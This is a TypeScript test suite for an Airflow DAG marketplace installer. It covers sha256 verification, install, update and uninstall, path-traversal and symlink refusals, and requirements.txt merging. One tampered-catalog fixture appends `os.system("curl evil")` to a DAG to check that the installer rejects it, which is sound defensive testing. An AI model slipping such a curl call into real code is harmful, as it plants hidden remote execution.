import assert from 'node:assert/strict';
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { InstallError } from '../../../server/src/market/installedFiles';
import { Marketplace } from '../../../server/src/market/marketplace';
import { mergeRequirements, specsConflict } from '../../../server/src/market/requirements';
import { readState } from '../../../server/src/market/state';
import { BROKEN_DAG, commitAll, communityCatalogFiles, gitRepo, hangarCatalogFiles, POSTGRES_DAG, scratch, sha256, writeFiles } from './catalogRepos';

describe('marketplace install', () => {
  const { dir, cleanup } = scratch('install');
  after(cleanup);

  it('verifies, copies the DAG and its extra file, merges requirements, returns the checklist, records the version', async () => {
    const catalog = gitRepo(dir, 'catalog', hangarCatalogFiles());
    const repo = gitRepo(dir, 'team-dags', { 'requirements.txt': '# pinned by the platform team\napache-airflow-providers-amazon>=8.0\npandas==2.2.0\n' });
    const market = await Marketplace.load([{ name: 'team', url: `file://${catalog}` }], { cacheDir: path.join(dir, 'cache') });

    const result = await market.install('team/postgres-to-s3', { repoRoot: repo });
    assert.deepEqual(result.files, ['dags/postgres_to_s3.py', 'dags/sql/extract.sql']);
    assert.equal(readFileSync(path.join(repo, 'dags/postgres_to_s3.py'), 'utf8'), POSTGRES_DAG);
    assert.ok(existsSync(path.join(repo, 'dags/sql/extract.sql')));
    assert.equal(
      readFileSync(path.join(repo, 'requirements.txt'), 'utf8'),
      '# pinned by the platform team\napache-airflow-providers-amazon>=8.0\napache-airflow-providers-postgres>=5.10\npandas==2.2.0\n',
    );
    assert.deepEqual(result.requirements.added, ['apache-airflow-providers-postgres>=5.10']);
    assert.deepEqual(result.checklist.connections.map((c) => c.id), ['postgres_default', 'aws_default']);
    assert.deepEqual(result.checklist.variables.map((v) => v.name), ['export_bucket']);
    assert.equal(readState(repo).installed['team/postgres-to-s3']?.version, '1.0.0');
    assert.deepEqual(market.updates(repo), []);

    // A new version in the catalog: "Update available", then update.
    const changed = POSTGRES_DAG.replace('echo load', 'echo load v2');
    const files = hangarCatalogFiles({ sha: sha256(changed) });
    writeFiles(catalog, { ...files, 'hangar-catalog.json': files['hangar-catalog.json']!.replace('"1.0.0"', '"1.1.0"'), 'dags/postgres_to_s3.py': changed });
    commitAll(catalog, 'v1.1.0');
    const refreshed = await Marketplace.load([{ name: 'team', url: `file://${catalog}` }], { cacheDir: path.join(dir, 'cache') });
    assert.deepEqual(refreshed.updates(repo), [{ id: 'team/postgres-to-s3', installed: '1.0.0', available: '1.1.0' }]);
    const update = await refreshed.install('team/postgres-to-s3', { repoRoot: repo });
    assert.equal(update.updated, true);
    assert.match(readFileSync(path.join(repo, 'dags/postgres_to_s3.py'), 'utf8'), /load v2/);
    assert.deepEqual(refreshed.updates(repo), []);

    // Uninstall removes the files that still have the content installed, and keeps (and reports) edited ones.
    writeFileSync(path.join(repo, 'dags/sql/extract.sql'), 'edited\n');
    assert.deepEqual(refreshed.uninstall('team/postgres-to-s3', repo), { removed: ['dags/postgres_to_s3.py'], kept: [{ path: 'dags/sql/extract.sql', reason: 'edited since it was installed' }] });
    assert.ok(!existsSync(path.join(repo, 'dags/postgres_to_s3.py')));
    assert.equal(readFileSync(path.join(repo, 'dags/sql/extract.sql'), 'utf8'), 'edited\n');
    assert.equal(readState(repo).installed['team/postgres-to-s3'], undefined);
  });

  it('refuses to install when the file does not match the sha256 in the index', async () => {
    const catalog = gitRepo(dir, 'tampered', { ...hangarCatalogFiles(), 'dags/postgres_to_s3.py': `${POSTGRES_DAG}\nimport os; os.system("curl evil")\n` });
    const repo = gitRepo(dir, 'victim', { 'README.md': 'dags\n' });
    const market = await Marketplace.load([{ name: 't', path: catalog }]);
    await assert.rejects(market.install('t/postgres-to-s3', { repoRoot: repo }), (error: Error) => error instanceof InstallError && /sha256/.test(error.message));
    assert.ok(!existsSync(path.join(repo, 'dags')), 'nothing copied');
    assert.ok(!existsSync(path.join(repo, 'requirements.txt')), 'requirements untouched');
  });

  it('refuses a DAG the scan finds broken unless forced, and never overwrites files it did not install', async () => {
    const files = communityCatalogFiles();
    const catalog = gitRepo(dir, 'broken-dag', { ...files, 'dags/weekly_report.py': BROKEN_DAG });
    const repo = gitRepo(dir, 'target', { 'dags/weekly_report.py': '# mine\n' });
    const market = await Marketplace.load([{ name: 'c', path: catalog }]);
    await assert.rejects(market.install('c/weekly-report', { repoRoot: repo }), /scan found errors \(HGR001 line 2/);
    await assert.rejects(market.install('c/weekly-report', { repoRoot: repo, force: true }), /refusing to overwrite dags\/weekly_report.py/);
    const elsewhere = await market.install('c/weekly-report', { repoRoot: repo, folder: 'dags/community', force: true });
    assert.deepEqual(elsewhere.files, ['dags/community/weekly_report.py']);
    await assert.rejects(market.install('c/weekly-report', { repoRoot: repo, folder: '../outside', force: true }), /leaves the repository/);
    symlinkSync(dir, path.join(repo, 'escape'));
    await assert.rejects(market.install('c/weekly-report', { repoRoot: repo, folder: 'escape', force: true }), /resolves outside the repository/);
  });
});

describe('marketplace install through a symlinked subfolder', () => {
  const { dir, cleanup } = scratch('symlink');
  after(cleanup);

  it('refuses to write an extra file through a symlink that leaves the repository', async () => {
    const catalog = gitRepo(dir, 'catalog', hangarCatalogFiles());
    const repo = gitRepo(dir, 'repo', { 'dags/.keep': '' });
    symlinkSync(dir, path.join(repo, 'dags', 'sql'));
    const market = await Marketplace.load([{ name: 'team', path: catalog }]);
    await assert.rejects(market.install('team/postgres-to-s3', { repoRoot: repo }), /"dags\/sql\/extract.sql" resolves outside the repository \(symlink\)/);
    assert.ok(!existsSync(path.join(repo, 'dags', 'postgres_to_s3.py')), 'nothing written');
    assert.ok(!existsSync(path.join(dir, 'extract.sql')));
  });
});

describe('marketplace install of an entry whose files collide', () => {
  const { dir, cleanup } = scratch('collide');
  after(cleanup);

  it('refuses an entry whose DAG and extra file would land on the same path, writing nothing', async () => {
    const files = hangarCatalogFiles();
    const index = files['hangar-catalog.json']!.replace('"dags/sql/extract.sql"', '"other/postgres_to_s3.py"');
    const catalog = gitRepo(dir, 'catalog', { ...files, 'hangar-catalog.json': index, 'other/postgres_to_s3.py': '# another file\n' });
    const repo = gitRepo(dir, 'repo', { 'README.md': 'dags\n' });
    const market = await Marketplace.load([{ name: 'team', path: catalog }]);
    await assert.rejects(market.install('team/postgres-to-s3', { repoRoot: repo }), /two of its files would both be written to dags\/postgres_to_s3\.py/);
    assert.ok(!existsSync(path.join(repo, 'dags')), 'nothing written');
  });
});

describe('requirements.txt merge', () => {
  it('adds missing providers sorted, keeps comments, no duplicates across name spellings', () => {
    const result = mergeRequirements('# header\n-r base.txt\nzeta==1\nApache_Airflow.Providers-Postgres>=5\n', [
      { name: 'apache-airflow-providers-postgres', version: '>=5' },
      { name: 'apache-airflow-providers-http' },
      { name: 'alpha', version: '>=1.0' },
    ]);
    assert.equal(result.text, '# header\n-r base.txt\nalpha>=1.0\napache-airflow-providers-http\nApache_Airflow.Providers-Postgres>=5\nzeta==1\n');
    assert.deepEqual(result.conflicts, []);
  });

  it('reports conflicting pins and keeps the existing line; combines compatible ranges', () => {
    const result = mergeRequirements('apache-airflow-providers-postgres==5.1.0\napache-airflow-providers-amazon>=8.0\n', [
      { name: 'apache-airflow-providers-postgres', version: '>=5.10' },
      { name: 'apache-airflow-providers-amazon', version: '<9' },
    ]);
    assert.deepEqual(result.conflicts, [{ name: 'apache-airflow-providers-postgres', existing: 'apache-airflow-providers-postgres==5.1.0', wanted: 'apache-airflow-providers-postgres>=5.10' }]);
    assert.equal(result.text, 'apache-airflow-providers-amazon>=8.0,<9\napache-airflow-providers-postgres==5.1.0\n');
    assert.equal(specsConflict('==2.0', '~=2.0'), false);
    assert.equal(specsConflict('<2', '>=3'), true);
  });

  it('leaves an untouched file alone', () => {
    const result = mergeRequirements('b\na\n', [{ name: 'a' }]);
    assert.equal(result.changed, false);
  });
});
